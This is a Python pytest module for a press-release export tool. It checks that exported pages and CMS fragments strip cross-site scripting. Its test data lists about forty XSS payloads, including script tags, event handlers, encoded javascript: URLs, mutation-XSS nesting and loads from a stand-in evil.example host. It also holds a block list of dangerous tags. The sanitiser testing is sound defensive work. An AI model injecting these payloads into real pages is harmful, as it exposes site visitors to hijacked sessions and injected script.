"""Known XSS vectors cannot put script into an exported page or the CMS fragment."""

from __future__ import annotations

import re

import html5lib
import pytest

from presspad.core.formats.html import cms_fragment, export_html
from presspad.core.formats.sanitize import clean_html
from presspad.core.model.release import LangVersion, MediaLink, Release

XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert('XSS')\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">click</a>",
    "<a href=\"java&#x09;script:alert(1)\">tab</a>",
    "<a href=\"vbscript:msgbox(1)\">vb</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">data</a>",
    "<a href=\"#\" onclick=\"alert(1)\">handler</a>",
    "<p onmouseover=\"alert(1)\">hover</p>",
    "<body onload=alert(1)>",
    "<div style=\"width: expression(alert(1))\">css</div>",
    "<div style=\"background:url(javascript:alert(1))\">css</div>",
    "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}"
    "</style>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<form action=\"javascript:alert(1)\"><button formaction=javascript:alert(1)>x</button>"
    "</form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=\"javas\x00cript:alert(1)\">nul</a>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "[markdown link](javascript:alert(1))",
    "[entity link](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    "![img](javascript:alert(1))",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    "<a href='x' id='location'>clobber</a>",
]
URL_ATTRS = ("href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster")
BAD_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "form", "input", "button",
            "base", "link", "frame", "frameset", "applet", "video", "audio", "source",
            "details", "noscript", "template"}


def assert_harmless(page: str, allowed_styles: int = 0, allowed_metas: int = 0) -> None:
    """No script element, handler, script URL, embed or style trick anywhere in ``page``."""
    tree = html5lib.parse(page, namespaceHTMLElements=False)
    styles = metas = 0
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = element.tag.split("}")[-1].lower()
        assert tag not in BAD_TAGS, f"<{tag}> survived: {page!r}"
        styles += tag == "style"
        metas += tag == "meta"
        if tag == "meta":
            assert (element.get("http-equiv") or "").lower() != "refresh"
        for name, value in element.attrib.items():
            name = name.split("}")[-1].lower()
            assert not name.startswith("on"), f"handler {name} survived"
            assert name not in ("style", "id", "srcdoc")
            assert name != "name" or tag == "meta"  # only our viewport/generator metas
            if name in URL_ATTRS or name.endswith("href"):
                compact = re.sub(r"[\x00-\x20]", "", value).lower()
                assert not compact.startswith(("javascript:", "vbscript:", "data:")), value
    assert styles == allowed_styles and metas == allowed_metas
    # Text that merely reads "javascript:" is harmless; a tag is not.
    assert "<script" not in page.lower()


def test_there_are_enough_vectors():
    assert len(XSS_VECTORS) >= 25


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_vector_in_body_title_credit_and_media(vector):
    version = LangVersion(title=vector, body=f"Before.\n\n{vector}\n\nAfter {vector} end.\n",
                          credit=vector, media=[MediaLink(vector, vector),
                                                MediaLink("x", "javascript:alert(1)")])
    release = Release(en=version, ru=LangVersion(title="Т", body=vector + "\n"))
    # Our own template has one <style> and four <meta> in <head>; nothing else may add any.
    assert_harmless(export_html(release), allowed_styles=1, allowed_metas=4)
    assert_harmless(export_html(release, ["ru"]), allowed_styles=1, allowed_metas=4)
    assert_harmless(cms_fragment(release, "en", include_title=True))
    assert_harmless(clean_html(vector))


def test_harmless_markup_survives():
    cleaned = clean_html('<p lang="ru"><em>a</em> <strong>b</strong> '
                         '<a href="https://x.example/?q=1">c</a> <a href="#top">d</a> '
                         '<a href="mailto:press@spbstu.ru">e</a></p>')
    assert "<em>a</em>" in cleaned and "<strong>b</strong>" in cleaned
    assert 'href="https://x.example/?q=1"' in cleaned and 'href="#top"' in cleaned
    assert 'href="mailto:press@spbstu.ru"' in cleaned and 'lang="ru"' in cleaned


def test_a_markdown_table_survives_the_export_with_its_alignment_but_no_style():
    body = "| Город | Мест |\n| :--- | ---: |\n| Москва | 40 |\n"
    page = export_html(Release(ru=LangVersion(title="Таблица", body=body)), ["ru"])
    assert '<th align="left">Город</th>' in page and '<td align="right">40</td>' in page
    assert "<table>" in page and "<tbody>" in page
    cleaned = clean_html('<table style="x"><tr><td style="color:red" onclick="x()">a</td>'
                         '</tr></table>')
    assert "style" not in cleaned and "onclick" not in cleaned and "<td>a</td>" in cleaned
